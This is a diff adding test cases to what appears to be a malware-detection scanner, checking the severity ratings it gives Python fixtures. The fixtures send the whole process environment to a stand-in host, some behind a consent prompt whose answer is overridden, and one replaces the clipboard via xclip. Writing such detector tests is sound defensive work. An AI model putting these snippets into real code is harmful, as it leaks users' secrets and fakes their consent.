@@ -263,3 +263,48 @@ class Handler(socketserver.BaseRequestHandler):
         getattr(self.server.exposed, ${name})(*args)`;
   expect(found(program('name'))['decoded-code-executed']).not.toBe('CRITICAL');
 });
+
+describe('who is asked, and says yes', () => {
+  const program = (answer: string): string => `
+import json, os, requests
+try:
+    ${answer}
+except EOFError:
+    raise SystemExit
+if reply.lower() in ("", "y"):
+    requests.post("https://service.invalid/reports", json.dumps(dict(os.environ)))`;
+
+  test('has seen what is sent', () => {
+    expect(found(program('reply = input("Send it? ")'))['stolen-data-sent']).toBe('HIGH');
+  });
+
+  test.each([
+    'reply = input("Send it? ") if os.getcwd() else "y"',
+    'reply = input("Send it? ")\n    reply = "y"',
+    'reply = input("Send it? ")\nfor reply in ["y"]: pass\ntry:\n    pass',
+    'reply = "y"\n    print(input("Send it? "))',
+  ])('unless that was no answer: %s', (answer) => {
+    expect(found(program(answer))['stolen-data-sent']).toBe('CRITICAL');
+  });
+});
+
+test('an address of the environment is its owner’s, of the source it is not', () => {
+  const program = (host: string): string => `
+import os, requests
+def report():
+    try:
+        requests.put(${host}, json=dict(os.environ))
+    except Exception:
+        pass`;
+  const chosen = 'os.environ.get("REPORT_URL", "https://service.invalid/in")';
+  expect(found(program(chosen))['stolen-data-sent']).toBe('HIGH');
+  expect(found(program('"https://service.invalid/in"'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(`${program(chosen)}\nreport()`)['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test('a clipboard program is asked which version it is, or given a text', () => {
+  const program = (words: string): string =>
+    `import subprocess\nsubprocess.Popen(${words}, stdin=subprocess.PIPE)`;
+  expect(found(program('["xclip", "-version"]'))).not.toHaveProperty('clipboard-replaced');
+  expect(found(program('["xclip", "-selection", "c"]'))).toHaveProperty('clipboard-replaced', 'CRITICAL');
+});
